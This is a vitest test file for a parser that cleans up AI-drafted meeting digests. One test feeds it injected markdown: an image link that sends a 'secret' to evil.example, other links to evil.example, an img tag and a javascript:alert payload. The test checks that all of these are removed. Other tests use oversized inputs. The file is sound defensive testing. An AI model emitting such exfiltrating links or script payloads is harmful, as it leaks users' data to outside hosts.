import { describe, expect, it } from "vitest";
import { parseModelDraft } from "../../../app/writing/model/parse-model-draft";

const chunk = [
  { label: "m1", about: [], text: "Joe, please name an owner for the retry bug today." },
  { label: "m2", about: [], text: "Ana books the hall." },
  { label: "d1", about: [], text: "We keep the date in December." },
];
const sources = new Map([
  ["m1", { kind: "email" as const, id: "mail-a" }],
  ["m2", { kind: "email" as const, id: "mail-b" }],
  ["d1", { kind: "document" as const, id: "doc-a" }],
]);
const read = (answer: unknown) =>
  parseModelDraft(typeof answer === "string" ? answer : JSON.stringify(answer), sources, chunk);
const quotes = [{ source: "m1", quote: "name an owner for the retry bug" }];
const good = { task: "Name an owner", owner: "Joe", timeline: "today", urgency: "high", quotes };
const kept = { ...good, quotes: [{ kind: "email", id: "mail-a", quote: "name an owner for the retry bug" }] };
const draftOf = (actionItems: unknown) => {
  const answer = read({ overview: "Joe names an owner.", actionItems });
  if (answer.draft === null) throw new Error(answer.problem);
  return { items: answer.draft.actionItems, dropped: answer.dropped };
};

describe("every item of an answer is read by itself", () => {
  it.each([
    ["no task", { ...good, task: null }],
    ["an empty task", { ...good, task: " " }],
    ["a task that is a list", { ...good, task: ["Name", "an owner"] }],
    ["no item", null],
    ["a sentence instead of an item", "Name an owner"],
  ])("%s: dropped and counted, the others stay", (_, bad) => {
    expect(draftOf([bad, good])).toEqual({ items: [kept], dropped: 1 });
  });

  it.each([
    ["unknown keys", { ...good, mood: "good", id: 7 }, kept],
    ["an owner as a list", { ...good, owner: ["Joe", "Ana"] }, { ...kept, owner: "Joe and Ana" }],
    ["an empty list of owners", { ...good, owner: [] }, { ...kept, owner: null }],
    ["an owner as an object", { ...good, owner: { name: "Joe" } }, { ...kept, owner: null }],
    ["a date as a number", { ...good, timeline: 20 }, { ...kept, timeline: null }],
    ["an urgency in capitals", { ...good, urgency: "HIGH" }, kept],
    ["an unknown urgency", { ...good, urgency: "asap" }, { ...kept, urgency: "none" }],
    ["one quote alone", { ...good, quotes: quotes[0] }, kept],
    ["one string for the quotes", { ...good, quotes: "name an owner for the retry bug" }, kept],
    ["strings as quotes", { ...good, quotes: ["name an owner for the retry bug"] }, kept],
    ["a broken quote among others", { ...good, quotes: [null, { source: "m1" }, ...quotes] }, kept],
    ["no quotes", { ...good, quotes: undefined }, { ...kept, quotes: [] }],
  ])("%s", (_, item, expected) => {
    expect(draftOf([item])).toEqual({ items: [expected], dropped: 0 });
  });

  it("one item that stands alone is a list of one", () => {
    expect(draftOf(good).items).toEqual([kept]);
  });

  it.each(["m1", "M1", "[m1]", "1", 1, "mail 1", "Email 1", "<m1>", "source m1", "m01"])(
    "label %j means m1",
    (source) => {
      expect(draftOf([{ ...good, quotes: [{ ...quotes[0], source }] }]).items).toEqual([kept]);
    },
  );

  it("label 'document 1' means d1, and an unknown one the source that holds the words", () => {
    const item = (source: string, quote: string) => ({ ...good, quotes: [{ source, quote }] });
    const found = draftOf([
      item("document 1", "keep the date"),
      item("m9", "Ana books the hall"),
      item("m9", "made up by a model"),
    ]).items.map(({ quotes: [first] }) => first?.id);
    expect(found).toEqual(["doc-a", "mail-b", undefined]);
  });
});

describe("what a model wrote is plain text", () => {
  it("links and images are taken out", () => {
    const sly = {
      overview:
        "See ![x](https://evil.example/?q=secret) [the page](https://evil.example) now, https://evil.example/a.",
      actionItems: [
        {
          task: "**Open** <img src=x> [here][1] javascript:alert(1)",
          quotes: [{ source: "[M1]", quote: "y" }],
        },
      ],
    };
    expect(read(sly)).toEqual({
      draft: {
        overview: "See x the page now,",
        actionItems: [
          {
            task: "Open here",
            owner: null,
            timeline: null,
            urgency: "none",
            quotes: [{ kind: "email", id: "mail-a", quote: "y" }],
          },
        ],
        blockers: [],
        decisions: [],
        stakeholders: [],
      },
      dropped: 0,
      problem: null,
    });
  });

  it("an overview as a list of sentences is read, one that is missing is empty", () => {
    expect(read({ overview: ["Ana books.", "Joe names."] }).draft?.overview).toBe("Ana books. Joe names.");
    expect(read({ actionItems: [good] }).draft?.overview).toBe("");
  });

  it.each(["no json", '{"overview": "cut off', "[]", '{"summary": "x"}', '"overview"'])(
    "%s is no draft, and the problem says why",
    (answer) => {
      expect(read(answer)).toEqual({ draft: null, problem: expect.stringMatching(/JSON|overview/) });
    },
  );
});

// Each took from seconds to hours, in which nobody else was answered.
describe("a long answer holds nobody up", () => {
  const long = (piece: string) => piece.repeat(190_000 / piece.length);

  it.each([
    ["thinking that never ends", long("<think>")],
    ["braces that never close", long("{")],
  ])("%s is no draft", (_, answer) => {
    expect(read(answer).problem).toMatch(/no complete JSON/);
  });

  it.each(["[", "[a](", "[a][", "<a "])("a field of nothing but %s is read once", (piece) => {
    const task = long(piece);
    const { items, dropped } = draftOf([good, { ...good, task }]);
    expect([items[0], items.length, dropped]).toEqual([kept, 2, 0]);
  });

  it("of thousands of lines and quotes as many are read as a digest can use, and the rest is counted", () => {
    const many = Array.from({ length: 50 }, () => ({ source: "m9", quote: "Ana books the hall" }));
    const item = { task: "t", quotes: many };
    const { items, dropped } = draftOf([item, ...Array.from({ length: 2000 }, () => ({ task: "t" }))]);
    expect([items.length, dropped]).toEqual([300, 1701]);
    expect(items[0]?.quotes.map(({ id }) => id)).toEqual(Array.from({ length: 5 }, () => "mail-b"));
  });

  it("one that nobody was asked for is not read", () => {
    const answer = `${JSON.stringify({ overview: "", actionItems: [good] })}${" ".repeat(200_000)}`;
    expect(read(answer)).toEqual({ draft: null, problem: "it is far too long." });
  });
});
